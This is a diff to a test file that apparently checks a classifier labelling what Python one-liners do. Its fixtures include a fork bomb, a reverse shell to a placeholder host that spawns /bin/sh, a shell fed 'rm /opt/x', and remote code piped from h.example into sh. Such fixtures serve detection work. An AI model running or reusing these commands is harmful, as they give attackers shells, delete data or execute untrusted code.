@@ -168,7 +168,7 @@ describe('what a line of Python does, by each way to say it', () => {
     ['python3 -c "import os\nwhile True: os.fork()"', 'fork-bomb recursively'],
     [
       "python3 -c \"import socket,os,pty; s=socket.socket(); s.connect(('h',1)); os.dup2(s.fileno(),0); pty.spawn('/bin/sh')\"",
-      'reverse-shell',
+      'typed-code; reverse-shell',
     ],
     ['python3 -c "import fileinput; fileinput.input(\'/opt/x\')"', 'read /opt/x'],
     ['python3 -c "x.remove(\'/opt/x\')"', ''],
@@ -208,7 +208,7 @@ describe('what a line of Python does, by each way to say it', () => {
     ["python3 -c \"import subprocess; subprocess.run(['cat'], input='rm /opt/x')\"", ''],
     [
       "python3 -c \"import subprocess; p = subprocess.Popen(['/bin/sh'], stdin=-1); p.communicate('rm /opt/x')\"",
-      'delete /opt/x',
+      'typed-code; delete /opt/x',
     ],
     [
       "python3 -c \"import subprocess; p = subprocess.Popen(['cat'], stdin=-1); p.communicate('rm /opt/x')\"",
@@ -325,7 +325,7 @@ describe('what a line of Python does, by each way to say it', () => {
     ["python3 -c \"import requests; print('eval', requests.get('https://h.example/x').text)\"", ''],
     [
       "python3 -c \"import requests, subprocess; subprocess.Popen('sh', stdin=requests.get('https://h.example/x').raw)\"",
-      'remote-code',
+      'typed-code; remote-code',
     ],
     ['python3 -c "print(\'while True: os.fork()\')"', ''],
     ['python3 -c "import os, itertools; [os.fork() for _ in itertools.count()]"', 'fork-bomb recursively'],
